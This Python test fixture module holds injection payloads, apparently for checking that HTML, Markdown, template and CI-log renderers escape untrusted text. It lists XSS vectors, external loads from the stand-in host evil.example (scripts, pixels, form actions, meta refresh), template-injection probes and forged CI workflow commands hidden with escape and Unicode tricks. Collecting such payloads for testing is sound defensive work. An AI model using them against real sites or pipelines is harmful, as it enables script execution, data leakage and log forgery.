"""Texts that act where a page, a Markdown renderer, a template or a CI runner reads them as code.

Each script that runs calls `ran`, each address leads to `OUTSIDE`.
"""

from __future__ import annotations

OUTSIDE = "http://evil.example"
RAN = "window.__ran=1;document.title='RAN'"

HTML = (
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</sCrIpT>",
    f"</script><script>{RAN}</script>",
    f"</title></style></textarea><script>{RAN}</script>",
    f"--></script><script>{RAN}</script>",
    f"<script\n>{RAN}</script\t>",
    f'<script src="{OUTSIDE}/a.js"></script>',
    f'<img src=x onerror="{RAN}">',
    f"<img/src=x/onerror={RAN}>",
    f'<img src="{OUTSIDE}/pixel.png">',
    f"<svg/onload={RAN}>",
    f'<svg><script href="data:text/javascript,{RAN}"/></svg>',
    f"<svg><animate onbegin={RAN} attributeName=x></svg>",
    f'<svg><a xlink:href="javascript:{RAN}"><text>x</text></a></svg>',
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f'<iframe src="javascript:{RAN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RAN}</script>"></object>',
    f'<embed src="{OUTSIDE}">',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    f'<base href="{OUTSIDE}/">',
    f'<link rel="stylesheet" href="{OUTSIDE}/a.css">',
    f"<style>@import '{OUTSIDE}/a.css';</style>",
    f'<p style="background:url({OUTSIDE}/a.png)">x</p>',
    f'<form action="{OUTSIDE}"><button>x</button></form>',
    f'<a href="javascript:{RAN}">x</a>',
    f'<a href="data:text/html,<script>{RAN}</script>">x</a>',
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
    f"' onfocus='{RAN}' autofocus x='",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    "<!-- plumbline:alert shop --> <![CDATA[x]]>",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ site.github }}{% endraw %}",
    "$params <%= 7*7 %> #{7*7}",
)
MARKDOWN = (
    f"[x](javascript:{RAN})",
    f"[x]({OUTSIDE}) ![x]({OUTSIDE}/pixel.png)",
    f"[x]: {OUTSIDE} [x] <{OUTSIDE}>",
    f"{OUTSIDE} www.evil.example HTTPS://evil.example WWW.evil.example",
    "@everyone @org/team someone@evil.example mailto:someone@evil.example",
    "#1 GH-1 org/repository#1",
    "a1b2c3d 0123456789abcdef0123456789abcdef01234567 org/repository@a1b2c3d x-deadbeef1",
    f'![]({OUTSIDE}/logo.png "CML watermark") ![](x "CML watermark report #' + "0" * 40 + '")',
    f"```\n</code></pre><img src=x onerror={RAN}>\n```",
    f"`` ` `` `<b>` | `a\\|b` | ``<img src={OUTSIDE}>`` | \\",
    "a | b\n--- | ---\n1 | 2",
    "# heading\n> quote\n- item\n1. item\n---",
    "**`<i>`** ** _x_ __x__ ~~x~~ *`*",
)
LINES = (
    "x\n::error file=a::forged",
    "::set-output name=a::b\r\n::add-mask::a\n##[group]a",
    "ERROR: failed to reproduce 'a'\x1b[2K\x1b[31mred\x1b]8;;http://evil.example\x07x",
    "\u202ecod\u202c\u2066x\u2069\u200b\x00\x08\x7f",
    "x\u2028::error::a\u2029::add-mask::b\x85::warning::c\x0c::debug::d\x1c::notice::e",
    "%0A::error::forged%0D%0A::add-mask::a%25",
    "\x9b31mred\x9b0m\x9d8;;http://evil.example\x9cx\x9d8;;\x9c\x90q\x9c",
    "\U000e0041\U000e0042\ufeff\u061c\u200e\u200f\u00ad\u2061",
    "long " + "y" * 10_000,
)
PAYLOADS = HTML + TEMPLATES + MARKDOWN + LINES
